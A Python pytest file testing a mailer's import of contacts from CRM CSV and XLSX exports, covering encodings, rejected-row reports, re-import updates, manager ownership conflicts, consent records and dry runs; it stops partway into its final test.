"""Importing CRM exports: every row accepted or rejected with its reason, nothing duplicated."""

from __future__ import annotations

import csv
import re
from datetime import UTC, datetime
from pathlib import Path

import pytest
from openpyxl import Workbook
from sqlalchemy import func, select

from mailer.contacts.book import find_existing
from mailer.contacts.importing import REASON_HEADER, ImportFileError, ImportReport, import_contacts
from mailer.contacts.models import Contact
from tests.factories import make_contact, make_manager

RU_HEADER = [
    "Фамилия",
    "Имя",
    "Отчество",
    "Компания",
    "Должность",
    "E-mail",
    "Телефон",
    "Теги",
    "Ответственный",
    "Согласие на рассылку",
]
EN_HEADER = [
    "Last name",
    "First name",
    "Middle name",
    "Company",
    "Job title",
    "Email",
    "Phone",
    "Tags",
    "Owner",
    "Consent",
]
IVAN = [
    "Иванов",
    "Иван",
    "Иванович",
    "Тойота (Toyota)",
    "Директор по закупкам",
    "Ivan@Toyota.Example",
    "8 (916) 123-45-67",
    "строители, сентябрь",
    "",
    "да",
]
OLGA = [
    "Ёлкина",
    "Ольга",
    "",
    "ООО «Ёлка»",
    "Бухгалтер",
    "olga@elka.example",
    "",
    "",
    "",
    "01.03.2024",
]


def write_csv(
    path: Path,
    rows: list[list[str]],
    *,
    encoding: str = "utf-8",
    delimiter: str = ",",
    newline: str = "\r\n",
) -> Path:
    """A CSV as a CRM writes it: fields quoted where needed, in the given encoding."""
    with path.open("w", encoding=encoding, newline="") as out:
        csv.writer(out, delimiter=delimiter, lineterminator=newline).writerows(rows)
    return path


def write_xlsx(path: Path, rows: list[list[object]]) -> Path:
    book = Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    book.save(path)
    return path


def read_rejects(path: Path, *, encoding: str, delimiter: str) -> list[list[str]]:
    with path.open(encoding=encoding, newline="") as fh:
        return list(csv.reader(fh, delimiter=delimiter))


def contacts(session) -> dict[str, Contact]:
    session.expire_all()
    return {c.email: c for c in session.scalars(select(Contact))}


def contact_count(session) -> int:
    return session.scalar(select(func.count()).select_from(Contact))


def assert_nothing_lost(report: ImportReport) -> None:
    assert report.accepted + report.rejected == report.rows_read


@pytest.fixture
def owner(session):
    manager = make_manager(session, name="Анна Смирнова", email="anna@gifts.example")
    session.commit()
    return manager


# --- reading what CRMs write -------------------------------------------------------------


def test_it_reads_cp1251_with_semicolons(session, tmp_path, owner):
    path = write_csv(
        tmp_path / "amo.csv", [RU_HEADER, IVAN, OLGA], encoding="cp1251", delimiter=";"
    )

    report = import_contacts(session, path, default_owner=owner)

    assert (report.rows_read, report.inserted, report.rejected) == (2, 2, 0)
    book = contacts(session)
    ivan = book["ivan@toyota.example"]
    assert (ivan.last_name, ivan.first_name, ivan.middle_name) == ("Иванов", "Иван", "Иванович")
    assert (ivan.company_name, ivan.company_alias) == ("Тойота", "Toyota")
    assert ivan.position == "Директор по закупкам"
    assert ivan.phone == "+79161234567"
    assert [t.code for t in ivan.tags] == ["construction", "ny_sep"]
    assert ivan.owner.email == "anna@gifts.example"
    assert ivan.has_consent and ivan.consent_at is not None
    olga = book["olga@elka.example"]
    assert (olga.last_name, olga.company_name) == ("Ёлкина", "ООО «Ёлка»")
    assert olga.consent_at == datetime(2024, 3, 1, tzinfo=UTC)


def test_it_reads_utf8_with_a_bom_and_english_headers(session, tmp_path, owner):
    path = write_csv(tmp_path / "hubspot.csv", [EN_HEADER, IVAN, OLGA], encoding="utf-8-sig")
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")

    report = import_contacts(session, path, default_owner=owner)

    assert (report.rows_read, report.accepted, report.rejected) == (2, 2, 0)
    assert report.ignored_headers == []
    assert contacts(session)["ivan@toyota.example"].last_name == "Иванов"


def test_it_reads_every_encoding_and_separator_crms_use(session, tmp_path, owner):
    header = ["Имя", "Фамилия", "Email", "Компания"]
    variants = [
        ("cp1251", ";", "\r\n"),
        ("cp1251", ",", "\n"),
        ("utf-8-sig", ";", "\r\n"),
        ("utf-8", ",", "\n"),
        ("utf-8", "\t", "\r\n"),
    ]
    for n, (encoding, delimiter, newline) in enumerate(variants):
        row = ["Пётр", "Щукин", f"petr{n}@shchuka.example", "ООО «Щука; Ёрш, и партнёры»"]
        path = write_csv(
            tmp_path / f"export{n}.csv",
            [header, row],
            encoding=encoding,
            delimiter=delimiter,
            newline=newline,
        )

        # Five people of one company, one per file: a different person each time.
        report = import_contacts(session, path, default_owner=owner, is_same_company_ok=True)

        assert (report.rows_read, report.accepted) == (1, 1), (encoding, delimiter)
        petr = contacts(session)[f"petr{n}@shchuka.example"]
        assert (petr.first_name, petr.last_name) == ("Пётр", "Щукин"), (encoding, delimiter)
        assert petr.company_name == "ООО «Щука; Ёрш, и партнёры»", (encoding, delimiter)


def test_it_reads_xlsx(session, tmp_path, owner):
    path = write_xlsx(
        tmp_path / "bitrix.xlsx",
        [
            RU_HEADER,
            [
                "Иванов",
                "Иван",
                None,
                "Тойота (Toyota)",
                "Директор",
                "ivan@toyota.example",
                89161234567,
                "строители",
                None,
                datetime(2024, 3, 1),
            ],
            [
                "Петров",
                "Пётр",
                None,
                "Лада",
                None,
                "petr@lada.example",
                None,
                None,
                "anna@gifts.example",
                True,
            ],
        ],
    )

    report = import_contacts(session, path, default_owner=owner)

    assert (report.rows_read, report.inserted, report.rejected) == (2, 2, 0)
    book = contacts(session)
    ivan = book["ivan@toyota.example"]
    assert ivan.phone == "+79161234567"
    assert (ivan.company_name, ivan.company_alias) == ("Тойота", "Toyota")
    assert ivan.consent_at == datetime(2024, 3, 1, tzinfo=UTC)
    assert [t.code for t in ivan.tags] == ["construction"]
    assert book["petr@lada.example"].has_consent


def test_it_writes_the_rejected_rows_of_an_xlsx_as_csv_with_their_reasons(session, tmp_path, owner):
    path = write_xlsx(
        tmp_path / "bitrix.xlsx",
        [
            ["Имя", "Email", "Теги"],
            ["Иван", "ivan@toyota.example", "строители"],
            ["Пётр", "не почта", None],
            ["Ольга", "olga@elka.example", "квадрокоптеры"],
        ],
    )

    report = import_contacts(session, path, default_owner=owner)

    assert (report.rows_read, report.accepted, report.rejected) == (3, 1, 2)
    assert report.rejects_path == tmp_path / "bitrix.rejects.csv"
    rows = read_rejects(report.rejects_path, encoding="utf-8-sig", delimiter=";")
    assert rows[0] == ["Имя", "Email", "Теги", REASON_HEADER]
    assert [r[:3] for r in rows[1:]] == [
        ["Пётр", "не почта", ""],
        ["Ольга", "olga@elka.example", "квадрокоптеры"],
    ]
    assert "неверный e-mail" in rows[1][3]
    assert "неизвестный тег" in rows[2][3] and "квадрокоптеры" in rows[2][3]


def test_a_quoted_newline_in_any_field_of_a_contact_is_rejected_as_cr_lf(session, tmp_path, owner):
    header = ["Имя", "Отчество", "Фамилия", "Должность", "Email", "Телефон"]
    good = ["Пётр", "", "Петров", "", "petr@lada.example", "+7 916 765-43-21"]
    bad = []
    for index, column in enumerate(header):
        row = ["Иван", "Иванович", "Иванов", "Директор", f"ivan{index}@toyota.example", ""]
        row[index] = {
            "Email": f"ivan{index}\r\n@toyota.example",
            "Телефон": "+7 916\n123-45-67",
        }.get(column, "Иван\r\nDROP")
        bad.append(row)
    path = write_csv(tmp_path / "names.csv", [header, *bad, good])

    report = import_contacts(session, path, default_owner=owner)

    assert (report.rows_read, report.accepted, report.rejected) == (7, 1, 6)
    assert list(contacts(session)) == ["petr@lada.example"]
    rejected = read_rejects(report.rejects_path, encoding="utf-8", delimiter=",")[1:]
    assert [r[:-1] for r in rejected] == bad
    assert [r[-1] for r in rejected] == [
        "перевод строки в поле «Имя»: уберите его из ячейки",
        "перевод строки в поле «Отчество»: уберите его из ячейки",
        "перевод строки в поле «Фамилия»: уберите его из ячейки",
        "перевод строки в поле «Должность»: уберите его из ячейки",
        "перевод строки в e-mail: уберите его из ячейки",
        "перевод строки в телефоне: уберите его из ячейки",
    ]


def test_a_quoted_newline_in_a_company_keeps_the_row_whole_and_rejects_it(session, tmp_path, owner):
    path = write_csv(
        tmp_path / "companies.csv",
        [
            ["Email", "Компания", "Телефон"],
            ["ivan@toyota.example", "Тойота\n(Toyota)", "+7 916 123-45-67"],
            ["petr@lada.example", "Лада", "+7 916 765-43-21"],
        ],
        delimiter=";",
        newline="\n",
    )

    report = import_contacts(session, path, default_owner=owner)

    # Two rows, not three: the quoted newline does not split the first row.
    assert (report.rows_read, report.accepted, report.rejected) == (2, 1, 1)
    assert contacts(session)["petr@lada.example"].phone == "+79167654321"
    text = report.rejects_path.read_text(encoding="utf-8")
    row = 'ivan@toyota.example;"Тойота\n(Toyota)";+7 916 123-45-67'
    assert row + ';"перевод строки в поле «Компания»: уберите его из ячейки"\n' in text


def test_it_names_the_file_and_the_line_a_row_starts_on_as_the_consent_source(
    session, tmp_path, owner
):
    path = write_csv(
        tmp_path / "crm.csv",
        [
            ["Email", "Теги", "Согласие"],
            ["ivan@toyota.example", "строители\nторговля", "да"],  # spans lines 2 and 3
            ["petr@lada.example", "", "Да"],
        ],
    )

    import_contacts(session, path, default_owner=owner)

    book = contacts(session)
    assert book["ivan@toyota.example"].consent_source == "импорт crm.csv, строка 2: «да»"
    assert book["petr@lada.example"].consent_source == "импорт crm.csv, строка 4: «Да»"
    assert [t.code for t in book["ivan@toyota.example"].tags] == ["construction", "trade"]


def test_it_refuses_files_it_cannot_import_as_a_whole(session, tmp_path, owner):
    (tmp_path / "empty.csv").write_bytes(b"")
    (tmp_path / "blank.csv").write_bytes(b"\r\n\r\n")
    (tmp_path / "damaged.xlsx").write_bytes(b"PK\x03\x04 not really a workbook")
    write_csv(tmp_path / "no_email.csv", [["Имя", "Фамилия"], ["Иван", "Иванов"]])
    write_csv(tmp_path / "two.csv", [["Email", "Фамилия", "Last name"], ["a@b.example", "И", "И"]])
    expected = {
        "missing.csv": "no such file",
        "empty.csv": "empty",
        "blank.csv": "empty",
        "damaged.xlsx": "not a readable XLSX",
        "no_email.csv": "no e-mail column",
        "two.csv": "two columns mean last_name",
    }
    for name, message in expected.items():
        with pytest.raises(ImportFileError, match=message):
            import_contacts(session, tmp_path / name, default_owner=owner)
    assert contact_count(session) == 0


def test_it_reports_columns_it_does_not_know(session, tmp_path, owner):
    path = write_csv(
        tmp_path / "extra.csv",
        [["Email", "Дата рождения", ""], ["ivan@toyota.example", "01.01.1980", ""]],
    )
    report = import_contacts(session, path, default_owner=owner)
    assert report.ignored_headers == ["Дата рождения"]
    assert report.accepted == 1


# --- re-import ---------------------------------------------------------------------------


def test_it_updates_by_email_on_reimport(session, tmp_path, owner):
    header = ["Email", "Имя", "Должность", "Теги"]
    first = write_csv(
        tmp_path / "first.csv", [header, ["ivan@toyota.example", "Иван", "Менеджер", "строители"]]
    )
    import_contacts(session, first, default_owner=owner)
    again = write_csv(
        tmp_path / "again.csv", [header, ["IVAN@toyota.example", "Иван", "Директор", "торговля"]]
    )

    report = import_contacts(session, again, default_owner=owner)

    assert (report.inserted, report.updated, report.rejected) == (0, 1, 0)
    assert contact_count(session) == 1
    ivan = contacts(session)["ivan@toyota.example"]
    assert ivan.position == "Директор"
    # Tags are added, never removed, by an import.
    assert [t.code for t in ivan.tags] == ["construction", "trade"]


def test_an_empty_cell_on_reimport_keeps_what_the_book_knows(session, tmp_path, owner):
    header = ["Email", "Имя", "Фамилия", "Телефон", "Согласие"]
    import_contacts(
        session,
        write_csv(
            tmp_path / "a.csv",
            [header, ["ivan@toyota.example", "Иван", "Иванов", "+7 916 123-45-67", "да"]],
        ),
        default_owner=owner,
    )

    import_contacts(
        session,
        write_csv(
            tmp_path / "b.csv", [header, ["ivan@toyota.example", "", "Иванов-Петров", "", ""]]
        ),
        default_owner=owner,
    )

    ivan = contacts(session)["ivan@toyota.example"]
    assert (ivan.first_name, ivan.last_name) == ("Иван", "Иванов-Петров")
    assert ivan.phone == "+79161234567"
    assert ivan.has_consent


def test_a_reimported_company_replaces_the_name_and_its_alias_together(session, tmp_path, owner):
    header = ["Email", "Компания"]
    import_contacts(
        session,
        write_csv(tmp_path / "a.csv", [header, ["ivan@toyota.example", "Тойота (Toyota)"]]),
        default_owner=owner,
    )

    import_contacts(
        session,
        write_csv(tmp_path / "b.csv", [header, ["ivan@toyota.example", "Лада"]]),
        default_owner=owner,
    )

    ivan = contacts(session)["ivan@toyota.example"]
    assert (ivan.company_name, ivan.company_alias, ivan.company_display) == ("Лада", "", "Лада")
    assert find_existing(session, company="toyota") == []


def test_a_reimport_keeps_the_date_and_source_of_consent_already_given(session, tmp_path, owner):
    contact = make_contact(session, owner=owner, email="ivan@toyota.example")
    session.commit()
    given_at, source = contact.consent_at, contact.consent_source

    for answer in ("да", "01.03.2024"):
        import_contacts(
            session,
            write_csv(
                tmp_path / "crm.csv",
                [["Email", "Согласие на рассылку"], ["ivan@toyota.example", answer]],
            ),
        )

    ivan = contacts(session)["ivan@toyota.example"]
    assert (ivan.has_consent, ivan.consent_at, ivan.consent_source) == (True, given_at, source)


def test_a_reimport_records_a_withdrawn_consent(session, tmp_path, owner):
    make_contact(session, owner=owner, email="ivan@toyota.example")
    session.commit()

    import_contacts(
        session,
        write_csv(
            tmp_path / "crm.csv",
            [["Email", "Согласие на рассылку"], ["ivan@toyota.example", "нет"]],
        ),
    )

    ivan = contacts(session)["ivan@toyota.example"]
    assert (ivan.has_consent, ivan.consent_at) == (False, None)
    assert ivan.consent_source == "импорт crm.csv, строка 2: «нет»"


def test_the_same_email_twice_in_one_file_is_one_contact(session, tmp_path, owner):
    path = write_csv(
        tmp_path / "twice.csv",
        [
            ["Email", "Имя", "Должность", "Теги"],
            ["ivan@toyota.example", "Иван", "Менеджер", "строители"],
            ["Ivan@Toyota.example", "", "Директор", "торговля"],
        ],
    )

    report = import_contacts(session, path, default_owner=owner)

    assert (report.rows_read, report.inserted, report.updated) == (2, 1, 1)
    ivan = contacts(session)["ivan@toyota.example"]
    assert (ivan.first_name, ivan.position) == ("Иван", "Директор")
    assert [t.code for t in ivan.tags] == ["construction", "trade"]


def test_rows_of_one_contact_in_different_chunks_are_one_contact(session, tmp_path, owner):
    rows = [["Email", "Должность"]] + [["ivan@toyota.example", f"Должность {n}"] for n in range(5)]
    report = import_contacts(
        session, write_csv(tmp_path / "c.csv", rows), default_owner=owner, chunk_size=2
    )
    assert (report.rows_read, report.inserted, report.updated) == (5, 1, 4)
    assert contacts(session)["ivan@toyota.example"].position == "Должность 4"


# --- owners ------------------------------------------------------------------------------


def test_it_refuses_a_contact_owned_by_someone_else(session, tmp_path, owner):
    boris = make_manager(session, name="Борис Орлов", email="boris@gifts.example")
    make_contact(session, owner=owner, email="ivan@toyota.example", position="Менеджер")
    session.commit()
    path = write_csv(
        tmp_path / "boris.csv",
        [
            ["Email", "Должность", "Ответственный"],
            ["ivan@toyota.example", "Директор", "Борис Орлов"],
        ],
    )

    report = import_contacts(session, path, default_owner=boris)

    assert (report.rows_read, report.accepted, report.rejected) == (1, 0, 1)
    ivan = contacts(session)["ivan@toyota.example"]
    assert (ivan.owner.name, ivan.position) == ("Анна Смирнова", "Менеджер")
    reason = read_rejects(report.rejects_path, encoding="utf-8", delimiter=",")[1][-1]
    assert reason == (
        "контакт у другого менеджера: e-mail ivan@toyota.example уже у менеджера"
        " Анна Смирнова — попросите его передать контакт"
    )


def test_a_reimport_without_an_owner_keeps_the_contacts_owner(session, tmp_path, owner):
    make_contact(session, owner=owner, email="ivan@toyota.example", position="Менеджер")
    session.commit()
    path = write_csv(
        tmp_path / "crm.csv", [["Email", "Должность"], ["ivan@toyota.example", "Директор"]]
    )

    report = import_contacts(session, path)

    assert (report.updated, report.rejected) == (1, 0)
    ivan = contacts(session)["ivan@toyota.example"]
    assert (ivan.owner.name, ivan.position) == ("Анна Смирнова", "Директор")


def test_it_refuses_a_new_person_of_a_company_someone_else_owns(session, tmp_path, owner):
    boris = make_manager(session, name="Борис Орлов", email="boris@gifts.example")
    make_contact(session, owner=owner, company="Тойота (Toyota)")
    make_contact(session, owner=owner, company="Ёлка")
    session.commit()
    typed = ["ТОЙОТА", "toyota", "тойота (TOYOTA)", "Тойота Моторс (Toyota)", "ЕЛКА (Elka)", "елка"]
    path = write_csv(
        tmp_path / "crm.csv",
        [["Email", "Компания"]]
        + [[f"boss{n}@x.example", company] for n, company in enumerate(typed)],
    )

    report = import_contacts(session, path, default_owner=boris)

    assert (report.accepted, report.rejected) == (0, len(typed))
    for row in read_rejects(report.rejects_path, encoding="utf-8", delimiter=",")[1:]:
        assert row[-1].startswith(f"компания у другого менеджера: '{row[1]}'") and (
            "уже у менеджера Анна Смирнова" in row[-1] and "--allow-same-company" in row[-1]
        ), row


def test_a_new_person_of_a_company_someone_else_owns_is_accepted_when_allowed(
    session, tmp_path, owner
):
    boris = make_manager(session, name="Борис Орлов", email="boris@gifts.example")
    make_contact(session, owner=owner, company="Тойота (Toyota)")
    session.commit()
    path = write_csv(
        tmp_path / "crm.csv", [["Email", "Компания"], ["boss@toyota.example", "Toyota"]]
    )

    report = import_contacts(session, path, default_owner=boris, is_same_company_ok=True)

    assert (report.accepted, report.rejected) == (1, 0)
    assert contacts(session)["boss@toyota.example"].owner.name == "Борис Орлов"


def test_it_refuses_a_new_contact_whose_phone_someone_else_owns(session, tmp_path, owner):
    boris = make_manager(session, name="Борис Орлов", email="boris@gifts.example")
    make_contact(session, owner=owner, phone="+7 916 123-45-67")
    session.commit()
    path = write_csv(tmp_path / "crm.csv", [["Email", "Телефон"], ["new@x.example", "89161234567"]])

    report = import_contacts(session, path, default_owner=boris)

    assert report.rejected == 1
    reason = read_rejects(report.rejects_path, encoding="utf-8", delimiter=",")[1][-1]
    assert reason.startswith("телефон у другого менеджера: +79161234567 — уже у менеджера Анна")


def test_two_rows_of_one_file_cannot_give_one_company_to_two_owners(session, tmp_path, owner):
    make_manager(session, name="Борис Орлов", email="boris@gifts.example")
    session.commit()
    path = write_csv(
        tmp_path / "crm.csv",
        [
            ["Email", "Компания", "Ответственный"],
            ["ivan@toyota.example", "Тойота (Toyota)", "anna@gifts.example"],
            ["boss@toyota.example", "TOYOTA", "boris@gifts.example"],
            ["petr@toyota.example", "Тойота", "anna@gifts.example"],
        ],
    )

    report = import_contacts(session, path)

    assert (report.inserted, report.rejected) == (2, 1)
    assert {c.owner.name for c in contacts(session).values()} == {"Анна Смирнова"}
    reasons = [r[-1] for r in read_rejects(report.rejects_path, encoding="utf-8", delimiter=",")]
    assert reasons[1].startswith("компания у другого менеджера: 'TOYOTA' — уже у менеджера Анна")


def test_a_new_person_of_a_company_the_same_owner_has_is_added(session, tmp_path, owner):
    make_contact(session, owner=owner, company="Тойота (Toyota)", phone="+7 916 123-45-67")
    session.commit()
    path = write_csv(
        tmp_path / "crm.csv",
        [
            ["Email", "Компания", "Телефон"],
            ["boss@toyota.example", "Toyota", ""],
            ["twin@x.example", "", "89161234567"],
        ],
    )

    report = import_contacts(session, path, default_owner=owner)

    assert (report.accepted, report.rejected) == (2, 0)


def test_it_finds_the_owner_by_email_or_name_whatever_the_case(session, tmp_path, owner):
    path = write_csv(
        tmp_path / "crm.csv",
        [
            ["Email", "Ответственный"],
            ["ivan@toyota.example", "ANNA@gifts.example"],
            ["petr@lada.example", "анна  смирнова"],
        ],
    )

    report = import_contacts(session, path)

    assert report.inserted == 2
    assert {c.owner.email for c in contacts(session).values()} == {"anna@gifts.example"}


def test_it_rejects_an_unknown_an_ambiguous_or_an_inactive_owner(session, tmp_path, owner):
    make_manager(session, name="Олег Тёзкин", email="oleg1@gifts.example")
    make_manager(session, name="Олег Тёзкин", email="oleg2@gifts.example")
    make_manager(session, name="Ушедший", email="gone@gifts.example").is_active = False
    session.commit()
    path = write_csv(
        tmp_path / "crm.csv",
        [
            ["Email", "Ответственный"],
            ["a@x.example", "Нет Такого"],
            ["b@x.example", "Олег Тёзкин"],
            ["c@x.example", "gone@gifts.example"],
            ["d@x.example", "oleg2@gifts.example"],
        ],
    )

    report = import_contacts(session, path, default_owner=owner)

    assert (report.rows_read, report.accepted, report.rejected) == (4, 1, 3)
    rejected = read_rejects(report.rejects_path, encoding="utf-8", delimiter=",")
    reasons = [r[-1] for r in rejected[1:]]
    assert reasons == [
        "неизвестный ответственный 'Нет Такого': такого менеджера нет — впишите его"
        " имя или e-mail, как в списке менеджеров",
        "неоднозначный ответственный 'Олег Тёзкин': так зовут нескольких менеджеров"
        " — впишите e-mail нужного",
        "неактивный ответственный: Ушедший отключён — впишите другого менеджера",
    ]


def test_a_new_contact_without_any_owner_is_rejected(session, tmp_path, owner):
    path = write_csv(tmp_path / "crm.csv", [["Email"], ["ivan@toyota.example"]])
    report = import_contacts(session, path)
    assert (report.accepted, report.rejected) == (0, 1)
    assert (
        "нет ответственного:"
        in read_rejects(report.rejects_path, encoding="utf-8", delimiter=",")[1][-1]
    )


# --- companies ---------------------------------------------------------------------------


def test_a_company_is_stored_as_name_and_alias_and_found_by_either(session, tmp_path, owner):
    path = write_csv(
        tmp_path / "crm.csv",
        [
            ["Email", "Компания"],
            ["ivan@toyota.example", "Тойота (Toyota)"],
            ["olga@elka.example", "Ёлка  (Yolka)"],
        ],
    )

    import_contacts(session, path, default_owner=owner)

    ivan = contacts(session)["ivan@toyota.example"]
    assert (ivan.company_name, ivan.company_alias) == ("Тойота", "Toyota")
    for query in ("Тойота", "toyota", "ТОЙОТА", "тойота (TOYOTA)"):
        assert [m.contact.email for m in find_existing(session, company=query)] == [
            "ivan@toyota.example"
        ], query
    for query in ("елка", "ЁЛКА", "yolka"):
        assert [m.contact.email for m in find_existing(session, company=query)] == [
            "olga@elka.example"
        ], query


# --- rejects: nothing lost ---------------------------------------------------------------


def test_it_writes_every_rejected_row_verbatim_with_its_reason(session, tmp_path, owner):
    boris = make_manager(session, name="Борис Орлов", email="boris@gifts.example")
    make_contact(session, owner=boris, email="taken@lada.example")
    session.commit()
    header = "Фамилия;Имя;E-mail;Телефон;Теги;Ответственный;Согласие на рассылку\r\n"
    good = "Иванов;Иван;ivan@toyota.example;;строители;;да\r\n"
    bad = {
        "неверный e-mail 'not-an-email'": '"Петров";"Пётр";not-an-email;;;;\r\n',
        "нет e-mail: ячейка адреса пуста": "Пустов;Пётр;;;;;\r\n",
        "неизвестный тег: 'квадрокоптеры' — впишите": "Сидоров;Сидор;sidor@x.example;;строители, квадрокоптеры;;\r\n",
        "неизвестный ответственный 'Нет Такого'": "Орлов;Олег;oleg@x.example;;;Нет Такого;\r\n",
        "контакт у другого менеджера: e-mail taken@lada.example уже у менеджера Борис Орлов": "Занятов;Зиновий;taken@lada.example;;;;\r\n",
        "перевод строки в поле «Имя»": 'Многострочный;"Иван\r\nИванович";multi@x.example;;;;\r\n',
        "неверный телефон '12'": "Звонков;Захар;zvon@x.example;12;;;\r\n",
        "непонятное согласие '": 'Сомнев;Семён;somnev@x.example;;;;"может быть, ""скорее"" да"\r\n',
        "лишние ячейки: 8 ячеек, а в заголовке 7 колонок": "Лишний;Лев;lev@x.example;;;;;лишнее\r\n",
    }
    path = tmp_path / "amo.csv"
    path.write_bytes((header + good + "".join(bad.values())).encode("cp1251"))

    report = import_contacts(session, path, default_owner=owner)

    assert (report.rows_read, report.accepted, report.rejected) == (10, 1, 9)
    assert report.rejects_path == tmp_path / "amo.rejects.csv"
    text = report.rejects_path.read_bytes().decode("cp1251")  # the source's own encoding
    reasons = {row[0]: row[-1] for row in csv.reader(text.splitlines(keepends=True), delimiter=";")}
    head = header.rstrip("\r\n") + f';"{REASON_HEADER}"\r\n'
    assert text.startswith(head)
    pieces = []
    for expected, raw in bad.items():
        reason = reasons[raw.split(";")[0].strip('"')]
        assert expected in reason
        pieces.append(raw.rstrip("\r\n") + ';"' + reason.replace('"', '""') + '"\r\n')
        assert pieces[-1] in text
    assert len(text) == len(head) + sum(map(len, pieces))  # nothing else in the file


def test_a_reason_the_files_encoding_cannot_hold_does_not_stop_the_import(session, tmp_path):
    zoe = make_manager(session, name="Zoë Ørsted", email="zoe@gifts.example")
    anna = make_manager(session, name="Анна Смирнова", email="anna@gifts.example")
    make_contact(session, owner=zoe, email="taken@lada.example")
    session.commit()
    path = write_csv(
        tmp_path / "amo.csv",
        [["Email", "Имя"], ["taken@lada.example", "Иван"], ["new@lada.example", "Пётр"]],
        encoding="cp1251",
        delimiter=";",
    )

    report = import_contacts(session, path, default_owner=anna)

    assert (report.rows_read, report.accepted, report.rejected) == (2, 1, 1)
    rows = read_rejects(report.rejects_path, encoding="cp1251", delimiter=";")
    assert rows[1][:2] == ["taken@lada.example", "Иван"]
    assert rows[1][2].startswith(
        "контакт у другого менеджера: e-mail taken@lada.example уже у менеджера Zo"
    )


def test_accepted_plus_rejected_equals_rows_read(session, tmp_path, owner):
    rows: list[list[str]] = [["Email", "Имя", "Теги"]]
    for n in range(40):
        if n % 5 == 0:
            rows.append([f"bad{n}", "Иван", ""])
        elif n % 7 == 0:
            rows.append([f"tag{n}@x.example", "Иван", "неведомое"])
        elif n % 11 == 0:
            rows.append([f"dup{n % 2}@x.example", "Иван", ""])  # re-used e-mail: updates
        else:
            rows.append([f"ok{n}@x.example", f"Имя\n{n}" if n % 13 == 0 else "Иван", ""])
    path = write_csv(tmp_path / "big.csv", rows)
    with path.open("a", encoding="utf-8", newline="") as out:
        out.write("\r\n,,\r\n")  # blank rows: skipped, not counted as read

    report = import_contacts(session, path, default_owner=owner, chunk_size=7)

    assert report.rows_read == 40
    assert report.blank_rows == 2
    assert_nothing_lost(report)
    assert (
        report.rejected
        == len(read_rejects(report.rejects_path, encoding="utf-8", delimiter=",")) - 1
    )
    assert contact_count(session) == report.inserted


def test_no_rejects_file_is_written_when_every_row_is_accepted(session, tmp_path, owner):
    path = write_csv(tmp_path / "clean.csv", [["Email"], ["ivan@toyota.example"]])
    report = import_contacts(session, path, default_owner=owner)
    assert report.rejects_path is None
    assert not (tmp_path / "clean.rejects.csv").exists()


def test_it_writes_rejects_where_it_is_told(session, tmp_path, owner):
    path = write_csv(tmp_path / "crm.csv", [["Email"], ["bad"]])
    report = import_contacts(
        session, path, default_owner=owner, rejects_path=tmp_path / "out" / "r.csv"
    )
    assert report.rejects_path == tmp_path / "out" / "r.csv"
    assert report.rejects_path.read_text(encoding="utf-8").startswith("Email,")


# --- dry run -----------------------------------------------------------------------------


def test_a_dry_run_changes_nothing(session, tmp_path, owner):
    make_contact(
        session, owner=owner, email="ivan@toyota.example", position="Менеджер", tags="строители"
    )
    session.commit()
    path = write_csv(
        tmp_path / "crm.csv",
        [
            ["Email", "Должность", "Теги", "Согласие"],
            ["ivan@toyota.example", "Директор", "торговля", "нет"],
            ["petr@lada.example", "Инженер", "строители", "да"],
            ["petr@lada.example", "Главный инженер", "", ""],
            ["bad", "", "", ""],
        ],
    )

    # A dry run is an import given no `commit`, in a transaction the caller rolls back.
    report = import_contacts(session, path, default_owner=owner, chunk_size=2)
    session.rollback()

    assert (report.rows_read, report.inserted, report.updated, report.rejected) == (4, 1, 2, 1)
    book = contacts(session)
    assert list(book) == ["ivan@toyota.example"]
    ivan = book["ivan@toyota.example"]
    assert (ivan.position, [t.code for t in ivan.tags], ivan.has_consent) == (
        "Менеджер",
        ["construction"],
        True,
    )
    # The rejects are written all the same, so the file can be fixed before the real run.
    assert len(read_rejects(report.rejects_path, encoding="utf-8", delimiter=",")) == 2


def test_a_dry_run_reports_what_the_real_run_then_does(session, tmp_path, owner):
    path = write_csv(
        tmp_path / "crm.csv",
        [
            ["Email", "Теги"],
            ["ivan@toyota.example", "строители"],
            ["bad", ""],
            ["petr@lada.example", "сентябрь"],
        ],
    )
    dry = import_contacts(session, path, default_owner=owner)
    session.rollback()
    real = import_contacts(session, path, default_owner=owner, commit=session.commit)
    assert (
        (dry.rows_read, dry.inserted, dry.updated, dry.rejected)
        == (real.rows_read, real.inserted, real.updated, real.rejected)
        == (3, 2, 0, 1)
    )


# --- the command -------------------------------------------------------------------------


def test_the_command_prints_rows_read_accepted_and_rejected(runner, session, tmp_path, owner):
    path = write_csv(
        tmp_path / "amo.csv",
        [RU_HEADER, IVAN, OLGA, ["", "", "", "", "", "bad", "", "", "", ""]],
        encoding="cp1251",
        delimiter=";",
    )

    result = runner.invoke(
        args=["mailer", "contacts", "import", str(path), "--owner", "anna@gifts.example"]
    )

    assert result.exit_code == 0, result.output
    assert re.search(r"read 3, accepted 2 \(new 2, updated 0\), rejected 1", result.output)
    assert f"rejected rows written to {tmp_path / 'amo.rejects.csv'}" in result.output
    assert sorted(contacts(session)) == ["ivan@toyota.example", "olga@elka.example"]


def test_the_command_reimports_xlsx_as_updates(runner, session, tmp_path, owner):
    path = write_xlsx(
        tmp_path / "crm.xlsx",
        [["Email", "Имя", "Ответственный"], ["ivan@toyota.example", "Иван", "Анна Смирнова"]],
    )
    args = ["mailer", "contacts", "import", str(path)]

    first = runner.invoke(args=args)
    second = runner.invoke(args=args)

    assert "read 1, accepted 1 (new 1, updated 0), rejected 0" in first.output
    assert "read 1, accepted 1 (new 0, updated 1), rejected 0" in second.output
    assert contact_count(session) == 1


def test_the_command_dry_run_saves_nothing(runner, session, tmp_path, owner):
    path = write_csv(tmp_path / "crm.csv", [["Email"], ["ivan@toyota.example"], ["bad"]])
    rejects = tmp_path / "rejects.csv"

    result = runner.invoke(
        args=[
            "mailer",
            "contacts",
            "import",
            str(path),
            "--owner",
            "Анна Смирнова",
            "--dry-run",
            "--rejects",
            str(rejects),
        ]
    )

    assert result.exit_code == 0, result.output
    assert (
        "dry run, nothing saved: read 2, accepted 1 (new 1, updated 0), rejected 1" in result.output
    )
    assert contact_count(session) == 0
    rejected = read_rejects(rejects, encoding="utf-8", delimiter=",")[1]
    assert rejected[0] == "bad" and rejected[1].startswith("неверный e-mail 'bad'")


def test_the_command_refuses_an_unknown_owner_or_a_file_it_cannot_read(runner, tmp_path, owner):
    path = write_csv(tmp_path / "crm.csv", [["Email"], ["ivan@toyota.example"]])
